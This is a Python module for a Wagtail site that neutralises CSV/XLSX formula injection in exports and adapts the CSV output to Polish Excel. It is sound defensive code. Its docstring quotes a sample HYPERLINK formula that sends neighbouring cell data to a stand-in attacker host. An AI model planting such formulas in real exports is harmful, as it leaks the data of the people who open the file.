"""Spreadsheet exports (Wagtail's CSV and XLSX downloads) that cannot carry formulas.

A value typed by a visitor — a name in a registration, a line of the contact form — that
starts with = + - @ (or a tab or carriage return) is taken for a formula by Excel and
LibreOffice when the export is opened: `=HYPERLINK("https://evil.example/?"&A2, "Kliknij")`
can send the neighbouring cells away, and older spreadsheets run commands. The export
prefixes such a value with a single quote, which spreadsheets read as "this is text"
(OWASP's advice for CSV injection).
"""

import csv
import datetime

from django.utils import timezone
from django.utils.translation import gettext

from wagtail.admin.views.mixins import Echo, SpreadsheetExportMixin

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    """`value` as spreadsheet text that is never evaluated; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class FormulaSafeExportMixin:
    """For views with Wagtail's SpreadsheetExportMixin (listings of models, form
    submissions): every cell and heading of the CSV and XLSX export goes through
    neutralise_formula()."""

    def preprocess_field_value(self, field, value, export_format):
        return neutralise_formula(super().preprocess_field_value(field, value, export_format))

    def get_heading(self, queryset, field):
        return neutralise_formula(super().get_heading(queryset, field))


# What Excel set to Polish expects of a CSV file: a semicolon between cells (the comma is the
# decimal separator there) and a UTF-8 byte order mark, without which it reads the file as
# Windows-1250 and "Łódź" comes out garbled.
CSV_DELIMITER = ";"
BYTE_ORDER_MARK = "\ufeff"
LOCAL_TIME_FORMAT = "%Y-%m-%d %H:%M"


def yes_or_no(value):
    """A tick box as the words an organiser reads ("tak"/"nie"), not True/False."""
    return gettext("yes") if value else gettext("no")


def local_time(value):
    """A moment as the site's wall clock shows it (14:40 in Warsaw, not 13:40 UTC)."""
    return timezone.localtime(value).strftime(LOCAL_TIME_FORMAT)


def local_naive_time(value):
    """For XLSX, which has no time zones: the site's wall-clock time without a zone."""
    return timezone.make_naive(value) if timezone.is_aware(value) else value


class PolishSpreadsheetExportMixin(FormulaSafeExportMixin):
    """For model listings whose export people open in Polish Excel or LibreOffice: labels
    of choices instead of their codes, "tak"/"nie" for tick boxes, times in the site's time
    zone, and a CSV with semicolons and a byte order mark; formula-safe as before."""

    custom_value_preprocess = {
        **SpreadsheetExportMixin.custom_value_preprocess,
        datetime.datetime: {
            SpreadsheetExportMixin.FORMAT_CSV: local_time,
            SpreadsheetExportMixin.FORMAT_XLSX: local_naive_time,
        },
        bool: {
            SpreadsheetExportMixin.FORMAT_CSV: yes_or_no,
            SpreadsheetExportMixin.FORMAT_XLSX: yes_or_no,
        },
    }

    def to_row_dict(self, item):
        """The row, with each field that has choices shown by its label ("Firma", not
        `business`)."""
        row = super().to_row_dict(item)
        for name in row:
            display = getattr(item, f"get_{name}_display", None)
            if "." not in name and callable(display):
                row[name] = display()
        return row

    def stream_csv(self, queryset):
        """Wagtail's CSV stream, with the byte order mark first and semicolons between
        cells."""
        writer = csv.DictWriter(Echo(), fieldnames=self.list_export, delimiter=CSV_DELIMITER)
        yield BYTE_ORDER_MARK.encode()
        yield writer.writerow(
            {field: self.get_heading(queryset, field) for field in self.list_export}
        )
        for item in queryset:
            yield self.write_csv_row(writer, self.to_row_dict(item))
